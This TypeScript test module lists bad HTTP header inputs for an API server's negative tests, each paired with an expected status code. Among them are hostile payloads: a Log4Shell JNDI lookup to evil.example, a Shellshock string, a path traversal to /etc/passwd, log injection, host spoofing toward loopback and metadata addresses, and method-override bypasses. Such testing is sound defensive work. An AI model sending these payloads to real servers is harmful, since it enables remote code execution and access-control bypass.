import { type BadInput, get, type Header, post } from "./bad_input.ts";

const REPORT = { type: "report" };

const KEYS = ["", " ", "a b", "a\tb", "é", "\xff", "k".repeat(201), "a, b", "\u0080", '"quoted key"'];

const LAST_IDS = [
  "-1",
  "+1",
  "1.0",
  "1.5",
  "1e3",
  "0x1",
  "abc",
  "NaN",
  "Infinity",
  "null",
  "9".repeat(16),
  "9".repeat(5_000),
  "1 2",
  "1,2",
]
  .concat(["01JD9ZK5T3M6X8QV2N4B7C1RSW", "\xb2", "1;2", "'1'", "%31", "__proto__", ""]);

const STREAMS = ["/api/notifications/stream", "/api/jobs/{job}/stream"];

const FOREIGN_HOSTS = [
  "evil.example",
  "evil.example:8000",
  "127.0.0.1.evil.example",
  "10.0.0.1",
  "0.0.0.0",
  "localhost:1",
]
  .concat([
    "2130706433",
    "0x7f.0.0.1",
    "127.1",
    "[::]",
    "[::ffff:127.0.0.1]",
    "127.0.0.1:0",
    "127.0.0.1:99999",
    "metadata",
  ]);
const NO_HOSTS = [
  "",
  "a b",
  "a@127.0.0.1",
  "localhost:port",
  "localhost:",
  "[::1",
  "::1",
  "a/b",
  "a,b",
  "127.0.0.1:80:80",
]
  .concat(["é", "a?b", "a#b", "\\", "<a>", "127.0.0.1:-1"]);

const ORIGINS = [
  "null",
  "http://evil.example",
  "https://evil.example",
  "http://127.0.0.1",
  "http://127.0.0.1:1",
  "http://localhost",
]
  .concat([
    "http://127.0.0.1.evil.example",
    "file://",
    "http://",
    "evil",
    "",
    "*",
    "http://{host} http://evil.example",
    "ws://x",
  ]);

/** What means nothing here: the request is answered as without it. */
const MEANINGLESS: readonly Header[] = [
  ["traceparent", "00-0-0-0"],
  ["traceparent", `00-${"0".repeat(32)}-${"0".repeat(16)}-00`],
  ["traceparent", `ff-${"a".repeat(32)}-${"b".repeat(16)}-01-more`],
  ["traceparent", "x".repeat(4_000)],
  ["traceparent", "\xff\xfe"],
  ["tracestate", "a=".repeat(2_000)],
  ["baggage", "%00=%00"],
  ["X-Request-Id", "a b"],
  ["X-Request-Id", "x".repeat(65)],
  ["X-Request-Id", '"}\\u000a{"level":"error"'],
  ["X-Request-Id", "\xe2\x80\xa8"],
  ["X-Request-Id", ""],
  ["Range", "bytes=0-0"],
  ["Range", "bytes=5-1"],
  ["Range", "bytes=-1"],
  ["Range", `bytes=${Array(1_000).fill("0-0").join(",")}`],
  ["Range", "lines=1-2"],
  ["If-Match", '"x"'],
  ["If-None-Match", "*"],
  ["If-Modified-Since", "yesterday"],
  ["If-Unmodified-Since", "Thu, 01 Jan 1970 00:00:00 GMT"],
  ["Accept", "nothing"],
  ["Accept", ",;,;q=9"],
  ["Accept-Encoding", "nothing;q=x"],
  ["Accept-Language", "../../etc/passwd"],
  ["Cookie", "a=".repeat(2_000)],
  ["Cookie", "__proto__=1; \x80"],
  ["User-Agent", "() { :;}; echo"],
  ["User-Agent", "${jndi:ldap://evil.example/a}"],
  ["Referer", "http://evil.example/"],
  ["X-Forwarded-For", "127.0.0.1, evil"],
  ["X-Forwarded-Host", "evil.example"],
  ["X-Forwarded-Proto", "gopher"],
  ["Forwarded", 'for="[::1]";host=evil.example'],
  ["X-Original-URL", "/metrics"],
  ["X-Rewrite-URL", "/metrics"],
  ["X-HTTP-Method-Override", "DELETE"],
  ["X-HTTP-Method", "DELETE"],
  ["X-Method-Override", "POST"],
  ["Authorization", "Bearer nonsense"],
  ["Proxy-Authorization", "Basic x"],
  ["Expect", "a miracle"],
  ["Max-Forwards", "-1"],
  ["DNT", "\x80"],
  ["Content-Type", "nonsense"],
  ["Content-Encoding", "gzip"],
];

/** What rules out every type that a list can be answered in. */
const ACCEPTED = [
  "a/b",
  "a/b,".repeat(1_000),
  "text/*",
  "application/json;q=0",
  "*/*;q=0",
  "application/json;q=0, */*",
];

export const HEADER_INPUTS: readonly BadInput[] = [
  ...KEYS.flatMap((key): BadInput[] => {
    const what = `Idempotency-Key: ${key.slice(0, 40)}`;
    return [
      { what, request: post("/api/jobs", REPORT, ["Idempotency-Key", key]), answer: [400] },
      {
        what: `${what} of a batch`,
        request: post("/api/jobs/batch", [REPORT], ["Idempotency-Key", key]),
        answer: [400],
      },
      {
        what: `${what} of a message`,
        request: post("/api/actors/counter/bad/reset", {}, ["Idempotency-Key", key]),
        answer: [400],
      },
    ];
  }),
  {
    what: "two Idempotency-Key",
    request: post("/api/jobs", REPORT, ["Idempotency-Key", "a"], ["Idempotency-Key", "b"]),
    answer: [400],
  },
  { what: "an Idempotency-Key", request: post("/api/jobs", REPORT, ["Idempotency-Key", "one"]), answer: [201] },
  {
    what: "the Idempotency-Key of another request",
    request: post("/api/jobs", { ...REPORT, priority: 1 }, ["Idempotency-Key", "one"]),
    answer: [422],
  },
  ...STREAMS.flatMap((stream) =>
    LAST_IDS.map((id): BadInput => ({
      what: `Last-Event-ID: ${id.slice(0, 40)} to ${stream}`,
      request: get(stream, ["Last-Event-ID", id]),
      answer: [400],
    }))
  ),
  ...["-1", "1.5", "abc", "9".repeat(16), ""].map((id): BadInput => ({
    what: `lastEventId=${id}`,
    request: get(`/api/notifications/stream?lastEventId=${id}`),
    answer: [400],
  })),
  {
    what: "a Last-Event-ID of the future",
    request: get("/api/notifications/stream", ["Last-Event-ID", "9".repeat(15)]),
    answer: [200],
  },
  {
    what: "two Last-Event-ID",
    request: get(STREAMS[0]!, ["Last-Event-ID", "1"], ["Last-Event-ID", "2"]),
    answer: [400],
  },
  ...FOREIGN_HOSTS.map((host): BadInput => ({
    what: `Host: ${host}`,
    request: get("/health", ["Host", host]),
    answer: [403],
  })),
  ...NO_HOSTS.map((host): BadInput => ({
    what: `Host: ${host}`,
    request: get("/health", ["Host", host]),
    answer: [400],
  })),
  ...ORIGINS.map((origin): BadInput => ({
    what: `Origin: ${origin}`,
    request: post("/api/jobs", REPORT, ["Origin", origin]),
    answer: [403],
  })),
  ...MEANINGLESS.map(([name, value]): BadInput => ({
    what: `${name}: ${value.slice(0, 40)}`,
    request: get("/api/jobs", [name, value]),
    answer: [200],
  })),
  ...ACCEPTED.map((accept): BadInput => ({
    what: `Accept: ${accept.slice(0, 40)}`,
    request: get("/api/jobs", ["Accept", accept]),
    answer: [406],
  })),
  {
    what: "another method than the request's, by a header",
    request: { method: "POST", path: "/api/dead-letters/{letter}", headers: [["X-HTTP-Method-Override", "DELETE"]] },
    answer: [405],
  },
];
